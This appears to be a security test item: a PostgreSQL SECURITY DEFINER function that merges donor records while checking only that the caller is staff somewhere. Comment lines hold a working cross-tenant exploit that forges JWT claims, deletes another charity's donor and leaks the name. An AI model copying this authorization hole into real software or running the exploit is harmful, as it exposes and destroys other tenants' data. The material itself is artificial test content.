-- The function merges any two donors by their ids; it checks only that the caller is staff somewhere.
-- about: merge_donors
-- as: hf_fundraisers_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT 'was ' || merge_donors('11111111-0000-0000-0000-000000000002',
-- exploit: '22222222-0000-0000-0000-000000000002');
-- shows: was Road-secret donor
-- Doubles of donors; answers the name of the one that is gone.
CREATE FUNCTION merge_donors(kept uuid, gone uuid) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE old_name text;
BEGIN
  IF cardinality(staff_of()) = 0 THEN
    RAISE EXCEPTION 'staff only';
  END IF;
  UPDATE donations d SET donor_id = kept
  WHERE d.donor_id = gone AND EXISTS (SELECT FROM donors k WHERE k.id = kept AND k.charity_id = d.charity_id);
  DELETE FROM donors d WHERE d.id = gone RETURNING d.full_name INTO old_name;
  RETURN old_name;
END
$$;
